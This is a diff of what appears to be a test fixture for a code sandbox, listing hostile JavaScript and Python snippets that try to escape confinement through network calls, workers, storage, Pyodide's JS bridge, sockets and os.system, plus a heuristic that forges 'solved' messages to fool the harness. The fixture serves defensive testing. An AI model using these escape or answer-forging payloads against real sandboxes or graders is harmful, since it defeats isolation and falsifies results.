@@ -1,6 +1,6 @@
 /**
- * What a hostile heuristic may try. Each text is the body of a function with `B`, an address that counts who asks
- * for it; it is run in the sandbox and, as a control, in a worker of a page without any policy.
+ * What a hostile heuristic may try. Each text is the body of a function with `B`, an address that counts who
+ * asks for it; it is run in the sandbox and, as a control, in a worker of a page without any policy.
  */
 export const network = {
   fetch: `fetch(B + 'fetch')`,
@@ -16,7 +16,8 @@ export const network = {
   'module worker': `new Worker(B + 'module-worker', { type: 'module' })`,
   'nested blob worker': `new Worker(URL.createObjectURL(new Blob(["fetch('" + B + "nested-blob')"])))`,
   'nested data worker': `new Worker("data:text/javascript,fetch('" + B + "nested-data')")`,
-  'nested importScripts': `new Worker(URL.createObjectURL(new Blob(["importScripts('" + B + "nested-scripts')"])))`,
+  'nested importScripts': `const text = "importScripts('" + B + "nested-scripts')";
+    new Worker(URL.createObjectURL(new Blob([text])))`,
   font: `new FontFace('x', 'url(' + B + 'font)').load()`,
   'cache add': `caches.open('x').then((cache) => cache.add(B + 'cache'))`,
   navigation: `self.location = B + 'navigation'`,
@@ -79,7 +80,8 @@ const reaches = {
   localStorage: `Boolean(localStorage)`,
   cookie: `Boolean(document.cookie)`,
   cookieStore: `cookieStore.set('x', 'y').then(() => true)`,
-  indexedDB: `new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = () => yes(true); r.onerror = no; })`,
+  indexedDB: `new Promise((yes, no) => {
+    const asked = indexedDB.open('x'); asked.onsuccess = () => yes(true); asked.onerror = no; })`,
   caches: `caches.open('x').then((c) => c.put('/x', new Response('x'))).then(() => true)`,
   files: `navigator.storage.getDirectory().then(() => true)`,
   locks: `navigator.locks.request('x', () => true)`,
@@ -145,14 +147,16 @@ function h({ boxes, storage }) {
 /** Says to everybody who may listen that all is solved. */
 export const forgingHeuristic = `
 const lies = [{ type: 'ready' }, { type: 'broken', message: 'x' }, { type: 'alive', asked: 1e9 }, 'x', null];
-for (let id = 0; id < 50; id += 1) lies.push({ type: 'answer', id, value: { ok: true, stats: {}, seconds: 0 } });
+const solved = { ok: true, stats: {}, seconds: 0 };
+for (let id = 0; id < 50; id += 1) lies.push({ type: 'answer', id, value: solved });
 let asked = 0;
 function h() {
   if (asked++ < 5) for (const lie of lies) {
     try { self.postMessage(lie); } catch {}
     try { parent.postMessage(lie, '*'); } catch {}
     try { new BroadcastChannel('own').postMessage(lie); } catch {}
-    try { self.dispatchEvent(new MessageEvent('message', { data: lie, ports: [new MessageChannel().port1] })); } catch {}
+    const ports = [new MessageChannel().port1];
+    try { self.dispatchEvent(new MessageEvent('message', { data: lie, ports })); } catch {}
   }
   return 0;
 }
@@ -161,6 +165,8 @@ function h() {
 /** By Python, which has its own ways out. @param {string} address */
 export const pythonAttack = (address) => `
 B = '${address}hit/'
+port = int(B.split(':')[2].split('/')[0])
+request = b'GET /hit/py-socket HTTP/1.0\\r\\n\\r\\n'
 tries = [
     "import js; js.fetch(B + 'py-fetch')",
     "from js import XMLHttpRequest; r = XMLHttpRequest.new(); r.open('GET', B + 'py-xhr', False); r.send()",
@@ -172,7 +178,7 @@ tries = [
     "from js import Object; Object.constructor(\\"fetch('\\" + B + \\"py-function')\\")()",
     "from js import Object; Object.constructor.constructor('return self')().fetch(B + 'py-constructor')",
     "import urllib.request; urllib.request.urlopen(B + 'py-urllib', timeout=1)",
-    "import socket; s = socket.create_connection(('127.0.0.1', int(B.split(':')[2].split('/')[0])), 1); s.send(b'GET /hit/py-socket HTTP/1.0\\\\r\\\\n\\\\r\\\\n')",
+    "import socket; socket.create_connection(('127.0.0.1', port), 1).send(request)",
     "import pyodide_js; pyodide_js.loadPackage(B + 'py-package-1.0-py3-none-any.whl')",
     "import pyodide_js; pyodide_js.globals",
     "import os; os.system('true')",
@@ -184,7 +190,7 @@ def heur_attack(state):
     asked += 1
     for each in tries if asked < 3 else ():
         try:
-            exec(each, {'B': B})
+            exec(each, {'B': B, 'port': port, 'request': request})
         except BaseException:
             pass
     return 0
